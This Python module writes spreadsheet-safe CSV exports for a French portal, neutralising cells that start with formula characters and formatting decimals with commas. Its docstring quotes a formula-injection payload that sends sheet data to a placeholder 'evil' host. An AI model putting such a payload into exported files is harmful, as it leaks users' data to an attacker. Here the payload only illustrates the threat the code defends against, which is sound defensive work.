"""CSV files for spreadsheets (Excel in French, LibreOffice), safe to open.

A spreadsheet reads a cell whose text starts with = + - @ (or a tab, a carriage return) as a
formula: a service, procedure or step name chosen by an administrator or written in a
diagram, such as `=HYPERLINK("http://evil/?"&A1)`, would run in the supervisor's spreadsheet
and send it the sheet's figures (CSV or formula injection, OWASP; ASVS 1.2.10). Such text is
written behind an apostrophe, the spreadsheets' mark for "this is text". Numbers the portal
computes are written as numbers, never neutralised: an int as is, a Decimal with a decimal
comma, which French spreadsheets read as a number (« -1,5 »).

Every CSV the portal serves is written by `csv_text`.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from decimal import Decimal

# The first characters that make a formula, their full-width forms (turned into formulas by
# spreadsheets in some locales), and the control characters some of them act on.
FORMULA_STARTS = frozenset("=+-@\t\r\n\0＝＋－＠")

Cell = str | int | Decimal


def safe_cell(value: Cell) -> str:
    """The text of one cell: a number as a number, text that a spreadsheet would read as a
    formula (even after leading spaces, which some of them drop) behind an apostrophe."""
    if isinstance(value, bool):
        value = str(value)  # a bool is an int, but not a figure
    if isinstance(value, int):
        return str(value)
    if isinstance(value, Decimal):
        return f"{value:f}".replace(".", ",")
    if value[:1] in FORMULA_STARTS or value.lstrip(" \u00a0")[:1] in FORMULA_STARTS:
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Cell]]) -> str:
    """A CSV file as French Excel opens it: UTF-8 with a byte order mark (without one it
    reads the file as Windows-1252), ";" between cells, every cell through `safe_cell`."""
    buffer = io.StringIO()
    buffer.write("\ufeff")
    writer = csv.writer(buffer, delimiter=";", lineterminator="\r\n")
    writer.writerow([safe_cell(cell) for cell in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return buffer.getvalue()
